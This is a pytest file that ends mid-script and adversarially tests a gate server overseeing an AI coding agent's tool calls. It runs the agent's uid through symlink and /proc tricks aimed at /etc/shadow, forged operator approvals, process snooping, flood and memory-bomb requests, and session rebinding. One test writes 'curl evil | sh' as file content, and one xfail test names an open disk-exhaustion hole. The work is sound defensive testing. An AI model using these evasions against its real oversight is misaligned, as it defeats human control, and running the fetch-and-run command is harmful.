"""Adversary review of hardened mode: the agent's uid attacks its own gate server for real.

Every test below is an attack made as the agent's uid (54321) — through the real thin hook or
by hand on the socket — against a real ``overseer serve`` (as root, and once as an
unprivileged server user, 54400), and asserts it is stopped. An attack that *works* is kept
as ``xfail(strict=True, reason="HOLE: ...")``: the suite stays green and the hole stays named
until it is closed (then the xfail turns into a failure and must be removed).
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import subprocess
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.test_hardened import (
    AGENT_UID,
    OPERATOR_UID,
    OTHER_AGENT_UID,
    Hardened,
    _world_python,
    decision,
    pytestmark,
)

#: The unprivileged gate server's own uid (the "own system user" of the design).
SERVER_UID = 54400
SERVER_PYTHONPATH = "/work/main/src:/work/main/.venv/lib/python3.11/site-packages"

ADV_CONFIG = """
[defaults]
gate_timeout = "2s"

[server]
socket = "{socket}"
store = "{store}"
operators = [{operator}, 0]

[agents.builder]
owner = "platform@example.com"
autonomy = "autonomous"
default_task = "work"
match = {{ cwd = ["{project}/**", "{project}"] }}

[agents.builder.tasks.work]
allow = ["Read(./**)", "Write(./**)", "Bash(ls *)"]
ask = ["Bash(git push:*)"]
deny = ["Bash(rm:*)", "Bash(curl:*)"]
default = "ask"

[agents.ops]
owner = "ops@example.com"
autonomy = "autonomous"
default_task = "anything"
match = {{ cwd = ["/srv/ops/**", "/srv/ops"], source = ["/var/log/ops/**"] }}

[agents.ops.tasks.anything]
allow = ["Bash", "Read", "Write"]
default = "allow"
"""

__all__ = ["pytestmark"]


class Adv(Hardened):
    """The :class:`Hardened` world with a path-scoped config and a short gate timeout."""

    def build(self) -> None:
        super().build()
        self.config.write_text(
            ADV_CONFIG.format(
                socket=self.socket, store=self.store, operator=OPERATOR_UID, project=self.project
            )
        )
        self.config.chmod(0o644)


class NonRootServer(Adv):
    """The same world, but ``overseer serve`` runs as its own unprivileged user (54400): it
    cannot search directories the agent keeps to itself."""

    def build(self) -> None:
        super().build()
        os.chown(self.run_dir, SERVER_UID, SERVER_UID)
        self.state.mkdir(mode=0o700)
        os.chown(self.state, SERVER_UID, SERVER_UID)
        os.chown(self.server_log.parent, 0, 0)

    def start_server(self) -> None:
        env = {"PATH": "/usr/bin:/bin", "PYTHONPATH": SERVER_PYTHONPATH, "HOME": "/"}
        log = open(self.server_log, "ab")  # noqa: SIM115 - the server's lifetime
        self.server = subprocess.Popen(
            ["/usr/bin/python3", "-s", "-m", "overseer", "serve", "--config", str(self.config)],
            stdout=log, stderr=log, env=env, cwd="/", user=SERVER_UID, group=SERVER_UID,
            extra_groups=[],
        )  # fmt: skip
        log.close()
        deadline = time.monotonic() + 60
        while not os.path.exists(self.socket):
            if self.server.poll() is not None:
                raise AssertionError(f"gate server exited: {self.server_log.read_text()}")
            if time.monotonic() > deadline:
                raise AssertionError(f"gate server never listened: {self.server_log.read_text()}")
            time.sleep(0.05)


@contextlib.contextmanager
def _world(kind: type[Adv], python: str) -> Iterator[Adv]:
    base = Path(tempfile.mkdtemp(prefix="overseer-adversary-", dir="/tmp"))
    try:
        setup = kind(base, python)
        setup.build()
        setup.start_server()
        try:
            yield setup
        finally:
            setup.stop_server()
    finally:
        shutil.rmtree(base, ignore_errors=True)


@pytest.fixture(scope="module")
def python() -> str:
    found = _world_python()
    if found is None:
        pytest.skip("no Python interpreter an unprivileged uid may run (needed for the agent side)")
    return found


@pytest.fixture(scope="module")
def adv(python: str) -> Iterator[Adv]:
    with _world(Adv, python) as setup:
        yield setup


_counter = iter(range(1000, 100000))


def _call(
    setup: Adv, tool: str, tool_input: dict[str, Any], *, session: str = "adv-session-0001",
    **extra: Any,
) -> dict[str, Any]:  # fmt: skip
    call: dict[str, Any] = {
        "session_id": session,
        "transcript_path": f"{setup.base}/agent-home/.claude/projects/p/{session}.jsonl",
        "cwd": str(setup.project),
        "permission_mode": "default",
        "hook_event_name": "PreToolUse",
        "tool_name": tool,
        "tool_input": tool_input,
        "tool_use_id": f"toolu_adv_{next(_counter)}",
    }
    call.update(extra)
    return call


def thin_hook(setup: Adv, call: dict[str, Any], *, uid: int = AGENT_UID) -> tuple[str, str]:
    """The real thin hook, run as ``uid`` in the project, on ``call``: (action, reason)."""
    result = setup.as_user(
        uid,
        ["-m", "overseer", "hook", "claude-code", "--server", setup.socket],
        stdin=json.dumps(call).encode(),
    )
    return decision(result)


def judged(setup: Adv, call: dict[str, Any]) -> list[str]:
    """The chain's outcomes for the call (``auto_allowed``, ``timed_out``, ...)."""
    rows = setup.rows(
        "SELECT outcome FROM decisions WHERE call_id = ? ORDER BY seq", (call["tool_use_id"],)
    )
    return [str(r[0]) for r in rows]


_CONVERSE = r"""
import json, socket, sys, time
path, wait = sys.argv[1], float(sys.argv[2])
data = sys.stdin.buffer.read()
s = socket.socket(socket.AF_UNIX); s.settimeout(wait); s.connect(path)
try:
    s.sendall(data)
    s.shutdown(socket.SHUT_WR)
except OSError as exc:
    print(json.dumps({"send_error": str(exc)}))
buf = b""
try:
    while True:
        chunk = s.recv(1 << 20)
        if not chunk:
            break
        buf += chunk
except OSError as exc:
    print(json.dumps({"recv_error": str(exc)}))
for line in buf.split(b"\n"):
    if line:
        sys.stdout.write(line.decode("ascii", "replace") + "\n")
"""


def converse(setup: Adv, uid: int, data: bytes, *, wait: float = 30) -> list[dict[str, Any]]:
    """Send ``data`` as ``uid``, half-close, and read every answer line until the server
    closes (half-closing is itself one of the attacks: the answer must still come)."""
    result = setup.as_user(
        uid, ["-c", _CONVERSE, setup.socket, str(wait)], stdin=data, timeout=wait + 30
    )
    assert result.returncode == 0, result.stderr.decode()
    return [json.loads(line) for line in result.stdout.decode().splitlines() if line.strip()]


def raw_hooks(
    setup: Adv, calls: list[dict[str, Any]], *, uid: int = AGENT_UID, entry_timeout: Any = 0,
    **fields: Any,
) -> list[dict[str, Any]]:  # fmt: skip
    """Hook requests sent by hand on one connection (the agent's uid needs no thin client);
    ``entry_timeout`` 0 makes every ask time out at once. The final answers, in order."""
    data = b"".join(
        request("hook", flavour="claude-code", call=c, entry_timeout=entry_timeout, **fields)
        for c in calls
    )
    answers = [a for a in converse(setup, uid, data) if "phase" not in a]
    assert len(answers) == len(calls), answers
    return answers


def request(op: str, **fields: Any) -> bytes:
    return json.dumps({"op": op, **fields}).encode() + b"\n"


def serving(setup: Adv) -> None:
    """The server is alive and still judges a harmless call for another agent."""
    assert setup.server is not None and setup.server.poll() is None, setup.server_log.read_text()
    answer = converse(setup, OTHER_AGENT_UID, request("whoami"))
    assert answer and answer[0].get("ok") is True and answer[0]["uid"] == OTHER_AGENT_UID
    call = _call(setup, "Bash", {"command": "ls -la"}, session=f"alive-{next(_counter)}")
    assert thin_hook(setup, call, uid=OTHER_AGENT_UID)[0] == "allow"


def as_agent(setup: Adv, script: str, *args: str) -> str:
    result = setup.as_user(AGENT_UID, ["-c", script, *args])
    assert result.returncode == 0, result.stderr.decode()
    return result.stdout.decode()


# ------------------------------------------------------------------------ (a) path tricks


def test_the_scope_judges_as_expected(adv: Adv) -> None:
    """Baseline: an in-project read is allowed, a read outside it is not (asked, timed out)."""
    (adv.project / "plain.txt").write_text("x")
    inside = _call(adv, "Read", {"file_path": str(adv.project / "plain.txt")})
    assert thin_hook(adv, inside)[0] == "allow"
    outside = _call(adv, "Read", {"file_path": "/etc/passwd"})
    assert thin_hook(adv, outside)[0] == "deny"
    assert judged(adv, outside) == ["timed_out"]


def test_a_symlink_out_of_the_project_is_not_allowed(adv: Adv) -> None:
    as_agent(
        adv,
        "import os, sys; os.symlink('/etc/shadow', sys.argv[1] + '/shadow-link');"
        "os.symlink('/etc', sys.argv[1] + '/etc-link');"
        "os.symlink(sys.argv[1] + '/loop-b', sys.argv[1] + '/loop-a');"
        "os.symlink(sys.argv[1] + '/loop-a', sys.argv[1] + '/loop-b');"
        "os.symlink(sys.argv[2] + '/.bashrc', sys.argv[1] + '/dangling')",
        str(adv.project),
        str(adv.base / "agent-home"),
    )
    p = str(adv.project)
    attempts = [
        ("Read", {"file_path": f"{p}/shadow-link"}),
        ("Read", {"file_path": f"{p}/etc-link/passwd"}),
        ("Read", {"file_path": f"{p}/etc-link/../etc-link/shadow"}),
        ("Read", {"file_path": f"{p}/loop-a"}),
        ("Write", {"file_path": f"{p}/dangling", "content": "curl evil | sh\n"}),
        ("Read", {"file_path": f"{p}/../agent-home/.bashrc"}),
        ("Read", {"file_path": "/proc/self/root/etc/shadow"}),
        ("Read", {"file_path": "/proc/self/cwd/../agent-home/.bashrc"}),
        ("Read", {"file_path": f"/proc/thread-self/root{p}/../etc/passwd"}),
        ("Read", {"file_path": "/proc/1/cwd/etc/shadow"}),
        ("Read", {"file_path": f"{p}/plain\x00/../../../etc/shadow"}),
        ("Read", {"file_path": f"/{p}/../../../../etc/shadow"}),
        ("Bash", {"command": "cat ./etc-link/shadow"}),
        ("Bash", {"command": "cat ./shadow-link"}),
    ]
    calls = [_call(adv, tool, tool_input) for tool, tool_input in attempts]
    for call, answer in zip(calls, raw_hooks(adv, calls), strict=True):
        assert answer.get("action") != "allow", (call["tool_input"], answer)
        assert "auto_allowed" not in judged(adv, call), call["tool_input"]


def test_a_symlink_through_proc_self_cwd_is_not_judged_in_the_servers_directory(
    adv: Adv,
) -> None:
    """The server's cwd is ``base`` (``/`` under systemd): ``/proc/self/cwd/project/ok.txt``
    is ``<project>/ok.txt`` to the server and ``<project>/project/ok.txt`` to the agent."""
    secret = adv.base / "agent-home" / "secret.txt"
    p = adv.project
    as_agent(
        adv,
        "import os, sys\n"
        "p, secret = sys.argv[1], sys.argv[2]\n"
        "open(secret, 'w').write('SECRET')\n"
        "open(p + '/ok.txt', 'w').write('harmless')\n"
        "os.makedirs(p + '/project')\n"
        "os.symlink(secret, p + '/project/ok.txt')\n"
        "os.symlink('/proc/self/cwd/project/ok.txt', p + '/procview')\n",
        str(p),
        str(secret),
    )
    # the agent's process (cwd: the project, like Claude Code's) reads the secret through it
    assert as_agent(adv, "print(open(__import__('sys').argv[1]).read())", f"{p}/procview") == (
        "SECRET\n"
    )
    direct = _call(adv, "Read", {"file_path": str(secret)})
    assert thin_hook(adv, direct)[0] == "deny"  # the secret itself is out of scope
    call = _call(adv, "Read", {"file_path": f"{p}/procview"})
    action, reason = thin_hook(adv, call)
    assert action != "allow", reason


@pytest.fixture(scope="module")
def nonroot(python: str) -> Iterator[Adv]:
    probe = subprocess.run(
        ["/usr/bin/python3", "-s", "-c", "import overseer.control.server, psutil, pathspec"],
        user=SERVER_UID, group=SERVER_UID, extra_groups=[], capture_output=True, cwd="/",
        env={"PATH": "/usr/bin:/bin", "PYTHONPATH": SERVER_PYTHONPATH}, timeout=60,
    )  # fmt: skip
    if probe.returncode != 0:
        pytest.skip(f"uid {SERVER_UID} cannot run overseer: {probe.stderr.decode()[-300:]}")
    with _world(NonRootServer, python) as setup:
        yield setup


def test_what_an_unprivileged_server_cannot_see_is_never_allowed(nonroot: Adv) -> None:
    """The agent keeps ``private/`` (0700) to itself: the server, uid 54400, cannot search it.
    A link in there to ``/etc/shadow``, or a link from the open project into it, must not be
    judged as the in-project file it looks like."""
    secret = nonroot.base / "agent-home" / "secret.txt"
    p = nonroot.project
    as_agent(
        nonroot,
        "import os, sys\n"
        "p, secret = sys.argv[1], sys.argv[2]\n"
        "open(secret, 'w').write('SECRET')\n"
        "os.mkdir(p + '/private', 0o700)\n"
        "os.symlink(secret, p + '/private/notes')\n"
        "open(p + '/private/plain.txt', 'w').write('x')\n"
        "os.symlink(p + '/private/notes', p + '/notes')\n"
        "os.mkdir(p + '/private/sub', 0o755)\n"
        "os.symlink('/etc', p + '/private/sub/etc')\n"
        "os.chmod(p + '/private', 0o711)\n"  # searchable, not listable: still hiding sub/etc
        "os.mkdir(p + '/closed', 0o700)\n"
        "os.symlink('/etc/shadow', p + '/closed/shadow')\n",
        str(p),
        str(secret),
    )
    assert nonroot.rows("SELECT count(*) FROM decisions") is not None  # root reads the store
    (p / "open.txt").write_text("fine")
    os.chmod(p / "open.txt", 0o644)
    calls = [
        _call(nonroot, "Read", {"file_path": f"{p}/open.txt"}),  # control: allowed
        _call(nonroot, "Read", {"file_path": f"{p}/notes"}),
        _call(nonroot, "Read", {"file_path": f"{p}/closed/shadow"}),
        _call(nonroot, "Read", {"file_path": f"{p}/closed/x/../shadow"}),
        _call(nonroot, "Write", {"file_path": f"{p}/closed/new.txt", "content": "x"}),
        _call(nonroot, "Write", {"file_path": f"{p}/closed/shadow", "content": "x"}),
        _call(nonroot, "Read", {"file_path": f"{p}/private/notes"}),
    ]
    answers = raw_hooks(nonroot, calls)
    assert answers[0]["action"] == "allow", answers[0]
    for call, answer in zip(calls[1:], answers[1:], strict=True):
        assert answer.get("action") != "allow", (call["tool_input"], answer)
    # the same through the real thin hook
    assert thin_hook(nonroot, _call(nonroot, "Read", {"file_path": f"{p}/closed/shadow"}))[0] == (
        "deny"
    )
    owner = nonroot.rows("SELECT uid FROM server_sessions LIMIT 1")
    assert owner == [(AGENT_UID,)]
    assert os.stat(nonroot.store).st_uid == SERVER_UID


# ------------------------------------------------------------------------ (b) acting as operator


def _an_approval(setup: Adv) -> str:
    call = _call(setup, "Bash", {"command": "git push origin main"}, session="adv-op-session")
    (answer,) = raw_hooks(setup, [call])
    assert answer["action"] == "deny" and answer["outcome"] == "timed_out", answer
    return str(answer["approval_id"])


def test_the_agent_cannot_act_as_an_operator_whatever_the_request_says(adv: Adv) -> None:
    approval = _an_approval(adv)
    forged = {"operator": "alice", "uid": OPERATOR_UID, "peer": {"uid": 0}, "as": "root"}
    attempts = [
        request("decide", id=approval, decision="approve", **forged),
        request("decide", id=approval, decision="approve", grant=["Bash"], **forged),
        request("kill", session="adv-op-session", signal=False, **forged),
        request("pending", **forged),
        request("mirror", after={}, **forged),
        request("reveal", session="adv-op-session", call_id=None, **forged),
    ]
    for data in attempts:
        (answer,) = converse(adv, AGENT_UID, data)
        assert answer["ok"] is False and "not an operator" in answer["error"], (data, answer)
    for op in ("Decide", "decide ", "decide\x00", "\u0064ecide", "DECIDE", "pending\n"):
        data = json.dumps({"op": op, "id": approval, "decision": "approve"}).encode() + b"\n"
        answers = converse(adv, AGENT_UID, data)
        assert all(a.get("ok") is False or a.get("operator") is False for a in answers), answers
    # an operator request smuggled inside a hook call is only a tool call to judge
    inner = _call(adv, "Bash", {"command": "ls"}, op="decide", id=approval, decision="approve")
    (answer,) = raw_hooks(adv, [inner], id=approval, decision="approve")
    assert answer.get("ok") is True and answer["action"] == "allow"
    whoami = converse(adv, AGENT_UID, request("whoami", uid=0, operator=True))
    assert whoami[0]["uid"] == AGENT_UID and whoami[0]["operator"] is False
    status = adv.rows("SELECT status, decided_by FROM approvals WHERE id = ?", (approval,))
    assert status == [("timed_out", "overseer (automatic)")] or status[0][0] == "timed_out"
    assert adv.rows("SELECT status FROM sessions WHERE id = 'adv-op-session'") != [("killed",)]
    assert adv.rows("SELECT count(*) FROM reveals") == [(0,)]
    assert adv.rows("SELECT count(*) FROM grants") == [(0,)]
    assert "alice" not in json.dumps(adv.rows("SELECT operator FROM decisions"))


def _refused(setup: Adv) -> int:
    rows = setup.rows("SELECT count(*) FROM decisions WHERE rule = 'server.operators'")
    return int(rows[0][0])


def test_every_refused_decide_is_on_the_chain_whatever_its_id(adv: Adv) -> None:
    before = _refused(adv)
    for data in (
        request("decide", id="ap-nothing", decision="approve"),
        b'{"op": "decide", "id": "ap-\\ud800", "decision": "approve"}\n',
        b'{"op": "decide", "id": "ap-\xff\xfe", "decision": "approve"}\n',
        request("decide", id="ap-" + "x" * 100_000, decision="approve", grant=["Bash"]),
    ):
        answer = converse(adv, AGENT_UID, data)
        assert answer[0]["ok"] is False and "not an operator" in answer[0]["error"], answer
    assert _refused(adv) == before + 4


def test_a_refused_kill_with_an_unstorable_session_id_is_still_on_the_chain(adv: Adv) -> None:
    before = _refused(adv)
    answer = converse(adv, AGENT_UID, b'{"op": "kill", "session": "adv-\\udcff-session"}\n')
    assert answer[0]["ok"] is False and "not an operator" in answer[0]["error"], answer
    assert _refused(adv) == before + 1


# ------------------------------------------------------------------------ (c) store, config, chain


_SNOOP = r"""
import json, os, socket, sys
pid, sock, run_dir = sys.argv[1], sys.argv[2], sys.argv[3]
out = {}
def attempt(name, fn):
    try:
        fn()
        out[name] = "done"
    except Exception as exc:
        out[name] = type(exc).__name__
attempt("list_fds", lambda: os.listdir(f"/proc/{pid}/fd"))
attempt("open_fd", lambda: [open(f"/proc/{pid}/fd/{n}", "rb") for n in range(3, 12)])
attempt("environ", lambda: open(f"/proc/{pid}/environ", "rb").read(1))
attempt("mem", lambda: open(f"/proc/{pid}/mem", "rb").read(1))
attempt("cwd", lambda: os.listdir(f"/proc/{pid}/cwd"))
attempt("root", lambda: os.listdir(f"/proc/{pid}/root/"))
attempt("maps", lambda: open(f"/proc/{pid}/maps").read(1) or 1/0)
attempt("unlink_socket", lambda: os.unlink(sock))
attempt("rename_socket", lambda: os.rename(sock, sock + ".old"))
attempt("plant_in_run", lambda: socket.socket(socket.AF_UNIX).bind(run_dir + "/evil.sock"))
attempt("signal", lambda: os.kill(int(pid), 15))
print(json.dumps(out))
"""


def test_the_agent_cannot_reach_the_servers_files_through_proc_or_the_socket_dir(
    adv: Adv,
) -> None:
    assert adv.server is not None
    out = json.loads(
        as_agent(adv, _SNOOP, str(adv.server.pid), adv.socket, str(adv.run_dir)).strip()
    )
    assert all(value != "done" for value in out.values()), out
    assert os.path.exists(adv.socket)
    serving(adv)


def test_the_operators_console_mirror_and_the_chain_are_not_served_to_the_agent(
    adv: Adv,
) -> None:
    """``outcome`` is the agent's one read: only its own approvals, only a few fields."""
    approval = _an_approval(adv)
    mine = converse(adv, AGENT_UID, request("outcome", id=approval))
    assert mine[0]["ok"] is True
    assert set(mine[0]["approval"]) <= {
        "id", "session", "status", "decided_by", "decided_at", "reason", "updated_input",
    }  # fmt: skip
    for data in (
        request("outcome", id=approval[:-1] + "%"),
        request("outcome", id="%"),
        request("outcome", id=approval, session="anything"),
        request("mirror", after={"decisions": 0, "approvals": 0}),
    ):
        answer = converse(adv, OTHER_AGENT_UID, data)
        assert answer[0]["ok"] is False, (data, answer)


# ------------------------------------------------------------------------ (d) crash, stall, exhaust


def test_malformed_requests_get_an_error_and_the_server_goes_on(adv: Adv) -> None:
    good = _call(adv, "Bash", {"command": "ls"}, session="adv-garble")
    deep_call = dict(good, tool_input={"command": "ls", "x": json.loads("[" * 900 + "]" * 900)})
    garbage = [
        b"[" * 200_000 + b"]" * 200_000 + b"\n",
        b'{"op": "hook", "call": ' + b'{"a":' * 100_000 + b"1" + b"}" * 100_000 + b"}\n",
        b'{"op": "outcome", "id": ' + b"9" * 100_000 + b"}\n",
        b'{"op": "outcome", "id": 1e999999}\n',
        b'{"op": NaN, "id": Infinity}\n',
        b'{"op": "hook", "flavour": "claude-code", "entry_timeout": NaN, "call": NaN}\n',
        b"\x00\x00\x00\n",
        b"\n",
        b"\xef\xbb\xbf" + request("whoami"),
        b'{"op": "hook", "flavour": "claude-code", "call": {"session_id": "s\xff", '
        b'"tool_name": "Bash", "tool_input": {"command": "ls"}}}\n',
        b'{"op": "hook", "flavour": "claude-code", "call": {"session_id": "adv-\\udcff", '
        b'"tool_name": "Bash", "tool_input": {"command": "ls"}}}\n',
        b'{"op": "hook", "flavour": "claude-code", "call": {"session_id": "adv-garble", '
        b'"tool_name": "Bash\\u0000", "tool_input": {"command": "ls \\ud800"}}}\n',
        b'{"op": "hook", "flavour": "claude-code", "call": {"session_id": "adv-garble", '
        b'"tool_name": "Bash", "tool_input": {"command": ["ls", 1, null]}}}\n',
        b'{"op": "hook", "flavour": "claude-code", "call": {"session_id": "adv-garble", '
        b'"tool_name": "Read", "tool_input": {"file_path": ["/etc/shadow"]}}}\n',
        b'{"op": "hook", "flavour": "__class__", "call": {}}\n',
        b'{"op": "hook", "op": "decide", "id": "x", "decision": "approve"}\n',
        request("hook", flavour="claude-code", call=deep_call),
        request("hook", flavour="claude-code", call=dict(good, tool_input=[1, 2])),
        request("hook", flavour="codex", call=dict(good, tool_name="")),
    ]
    for data in garbage:
        answers = converse(adv, AGENT_UID, data)
        final = [a for a in answers if "phase" not in a]
        assert final, (data[:80], answers)
        # nothing garbled is ever allowed (a plain ``ls`` may be; it is allowed by the scope)
        for answer in final:
            if answer.get("action") == "allow":
                assert answer["reason"].startswith("allowed by overseer: allow rule Bash(ls *)")
    serving(adv)
    assert adv.server is not None and adv.server.poll() is None


def test_a_reader_that_never_reads_its_answers_stalls_only_itself(adv: Adv) -> None:
    """The agent pipelines many requests and reads none of the answers: the server's send
    blocks on that one connection (then gives up); everyone else is answered at once."""
    flood = (
        "import socket, sys, time\n"
        "s = socket.socket(socket.AF_UNIX); s.connect(sys.argv[1])\n"
        "s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)\n"
        'line = b\'{"op": "whoami", "pad": "\' + b\'x\' * 4000 + b\'"}\\n\'\n'
        "s.settimeout(5)\n"
        "sent = 0\n"
        "try:\n"
        "    while sent < 20000:\n"
        "        s.sendall(line); sent += 1\n"
        "except OSError:\n"
        "    pass\n"
        "print('stalled', sent, flush=True)\n"
        "time.sleep(30)\n"
    )
    proc = subprocess.Popen(
        [adv.python, "-c", flood, adv.socket], stdout=subprocess.PIPE, user=AGENT_UID,
        group=AGENT_UID, extra_groups=[], env=adv.env_for(AGENT_UID),
    )  # fmt: skip
    try:
        assert proc.stdout is not None
        assert proc.stdout.readline().startswith(b"stalled")
        started = time.monotonic()
        serving(adv)
        call = _call(adv, "Bash", {"command": "ls"}, session=f"adv-stall-{next(_counter)}")
        assert thin_hook(adv, call)[0] == "allow"  # the stalling uid itself, on a new connection
        assert time.monotonic() - started < 20
    finally:
        proc.kill()
        proc.wait(10)


def _hwm_kib(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1])
    raise AssertionError("no VmHWM")


def test_parallel_maximal_requests_do_not_blow_up_the_servers_memory(adv: Adv) -> None:
    assert adv.server is not None
    before = _hwm_kib(adv.server.pid)
    bomb = (
        "import socket, sys, threading\n"
        'body = b\'{"op": "hook", "flavour": "claude-code", "call": {"x": [\''
        " + b'{},' * (8 * 1024 * 1024 // 3 - 20) + b'{}]}}\\n'\n"
        "def one():\n"
        "    s = socket.socket(socket.AF_UNIX); s.settimeout(60); s.connect(sys.argv[1])\n"
        "    try:\n"
        "        s.sendall(body); s.recv(100)\n"
        "    except OSError:\n"
        "        pass\n"
        "ts = [threading.Thread(target=one) for _ in range(32)]\n"
        "[t.start() for t in ts]; [t.join() for t in ts]\n"
        "print('done')\n"
    )
    result = adv.as_user(AGENT_UID, ["-c", bomb, adv.socket], timeout=120)
    assert result.returncode == 0, result.stderr.decode()
    grown_mib = (_hwm_kib(adv.server.pid) - before) // 1024
    serving(adv)
    assert grown_mib < 1024, f"the server's peak memory grew by {grown_mib} MiB"


def _store_bytes(setup: Adv) -> int:
    return sum(
        os.path.getsize(setup.store + suffix)
        for suffix in ("", "-wal", "-journal")
        if os.path.exists(setup.store + suffix)
    )


@pytest.mark.xfail(
    strict=True,
    reason="HOLE (DoS, fail-closed): a gated call's approval keeps its whole raw input (up to "
    "8 MiB) for the operator, with no per-uid budget: the agent's uid can still fill the "
    "server's disk with asks that time out (chain rows cap an input at 256 KiB since)",
)
def test_the_agent_cannot_grow_the_store_without_bound(adv: Adv) -> None:
    before = _store_bytes(adv)
    blob = "A" * (7 * 1024 * 1024)
    calls = [
        _call(adv, "Write", {"file_path": "/etc/cron.d/x", "content": blob}, session="adv-disk")
        for _ in range(4)
    ]
    answers = raw_hooks(adv, calls)
    assert all(a["action"] == "deny" for a in answers), answers
    grown_mib = (_store_bytes(adv) - before) / (1024 * 1024)
    assert grown_mib < 8, f"4 denied calls grew the store by {grown_mib:.0f} MiB"


# ------------------------------------------------------------------------ (e) other uids


def test_another_uid_cannot_touch_the_agents_approvals_by_reusing_their_ids(adv: Adv) -> None:
    call = _call(adv, "Bash", {"command": "git push origin main"}, session="adv-victim")
    (mine,) = raw_hooks(adv, [call])
    approval = str(mine["approval_id"])
    before = adv.rows("SELECT * FROM approvals WHERE id = ?", (approval,))
    # the other uid replays the call, the same tool_use_id, in the victim's and its own session
    into = dict(call)
    own = dict(call, session_id="adv-intruder")
    answers = raw_hooks(adv, [into, own], uid=OTHER_AGENT_UID)
    assert answers[0]["ok"] is False and "another user" in answers[0]["error"]
    assert answers[1]["action"] == "deny"
    assert adv.rows("SELECT * FROM approvals WHERE id = ?", (approval,)) == before
    sessions = adv.rows(
        "SELECT DISTINCT session FROM decisions WHERE call_id = ?", (call["tool_use_id"],)
    )
    assert sorted(s for (s,) in sessions) == ["adv-intruder", "adv-victim"]
    stranger = converse(adv, OTHER_AGENT_UID, request("outcome", id=approval))
    assert stranger[0]["ok"] is False
    # and variants of the victim's session id are sessions of their own, not the victim's
    for variant in ("adv-victim ", "ADV-VICTIM", "adv-victim\x00", "adv-victi\u006d\u0301"):
        raw_hooks(adv, [dict(call, session_id=variant)], uid=OTHER_AGENT_UID)
    victim_rows = adv.rows("SELECT count(*) FROM decisions WHERE session = 'adv-victim'")
    assert victim_rows == [(1,)] or victim_rows[0][0] <= 2
    owners = dict(adv.rows("SELECT session, uid FROM server_sessions"))
    assert owners["adv-victim"] == AGENT_UID


# ------------------------------------------------------------------------ (f) agent, task, timeout


def _session_agent(setup: Adv, session: str) -> tuple[str, str]:
    (row,) = setup.rows("SELECT agent, task FROM sessions WHERE id = ?", (session,))
    return str(row[0]), str(row[1])


def test_the_request_cannot_lengthen_the_gate_timeout_or_name_the_agent(adv: Adv) -> None:
    for n, entry in enumerate(
        ["99999", 1e308, "inf", "Infinity", "NaN", True, [600], {"s": 600}, "600s", "10m", -1,
         "-inf", "1e400", 600, None]
    ):  # fmt: skip
        session = f"adv-timeout-{n}"
        call = _call(
            adv, "Bash", {"command": "rm -rf x"}, session=session, agent="ops", task="anything",
            gate_timeout=600, entry_timeout=600, overseer={"agent": "ops"},
            permission_mode="bypassPermissions",
        )  # fmt: skip
        data = request(
            "hook", flavour="claude-code", call=call, entry_timeout=entry, gate_timeout=600,
            agent="ops", task="anything", timeout=600,
        )  # fmt: skip
        started = time.monotonic()
        answers = converse(adv, AGENT_UID, data)
        accepted = [a for a in answers if a.get("phase") == "accepted"]
        assert accepted and 0 <= accepted[0]["gate_timeout"] <= 2.0, (entry, answers)
        assert time.monotonic() - started < 10
        assert answers[-1]["action"] == "deny", (entry, answers)
        assert answers[-1]["outcome"] == "policy_denied", (entry, answers)  # builder's rm rule
        assert _session_agent(adv, session) == ("builder", "work")


def test_a_claimed_cwd_cannot_put_the_agents_session_under_another_agent(adv: Adv) -> None:
    session = "adv-claimed-cwd"
    (first,) = raw_hooks(adv, [_call(adv, "Bash", {"command": "ls"}, session=session,
                                     cwd="/srv/ops")])  # fmt: skip
    assert first["ok"] is True
    # the real Claude Code hook, honest cwd, same session: judged under "ops"
    action, reason = thin_hook(adv, _call(adv, "Bash", {"command": "rm -rf /srv/data"},
                                          session=session))  # fmt: skip
    assert action == "deny", reason
    assert _session_agent(adv, session) == ("builder", "work")


def test_a_claimed_transcript_path_cannot_put_the_agents_session_under_another_agent(
    adv: Adv,
) -> None:
    session = "adv-claimed-source"
    call = _call(adv, "Bash", {"command": "rm -rf build"}, session=session,
                 transcript_path="/var/log/ops/run.jsonl")  # fmt: skip
    action, reason = thin_hook(adv, call)  # through the real thin hook, as Claude Code would
    assert action == "deny", reason
    assert _session_agent(adv, session) == ("builder", "work")


def test_once_a_session_is_bound_a_later_claim_does_not_move_it(adv: Adv) -> None:
    session = "adv-bound-first"
    assert thin_hook(adv, _call(adv, "Bash", {"command": "ls"}, session=session))[0] == "allow"
    later = [
        _call(adv, "Bash", {"command": "rm -rf x"}, session=session, cwd="/srv/ops"),
        _call(adv, "Bash", {"command": "curl x"}, session=session,
              transcript_path="/var/log/ops/a.jsonl"),
        _call(adv, "Read", {"file_path": "/etc/passwd"}, session=session, cwd="/"),
        _call(adv, "Read", {"file_path": "/etc/passwd"}, session=session, cwd="/etc"),
    ]  # fmt: skip
    for call, answer in zip(later, raw_hooks(adv, later), strict=True):
        assert answer["action"] == "deny", (call, answer)
    assert _session_agent(adv, session) == ("builder", "work")
    started = adv.rows("SELECT cwd FROM sessions WHERE id = ?", (session,))
    assert started == [(str(adv.project),)]


def test_a_missing_or_relative_cwd_is_taken_from_the_kernel_not_the_request(adv: Adv) -> None:
    for n, cwd in enumerate([None, "srv/ops", "", 7, ["/srv/ops"]]):
        session = f"adv-no-cwd-{n}"
        call = _call(adv, "Bash", {"command": "rm -rf x"}, session=session, transcript_path=None)
        if cwd is None:
            del call["cwd"]
        else:
            call["cwd"] = cwd
        (answer,) = raw_hooks(adv, [call])
        assert answer["action"] == "deny", (cwd, answer)
        # the hook ran in the project: the server read /proc/<pid>/cwd
        assert _session_agent(adv, session) == ("builder", "work"), cwd


# ------------------------------------------------------------------------ (b) the kill switch as a weapon

_VICTIM = r"""
import os, sys, time
# another user's Claude Code (its command line names "claude"), which runs hooks as children
for line in sys.stdin:
    child = os.fork()
    if child == 0:
        time.sleep(60)
        os._exit(0)
    print(child, flush=True)
"""

_REUSER = r"""
import json, os, socket, sys
path, session, call = sys.argv[1], sys.argv[2], sys.argv[3]
s = socket.socket(socket.AF_UNIX)
child = os.fork()
if child == 0:  # the connecting process: SO_PEERCRED names it, then it is gone
    s.connect(path)
    os._exit(0)
os.waitpid(child, 0)
print(child, flush=True)
sys.stdin.readline()  # its pid now belongs to someone else
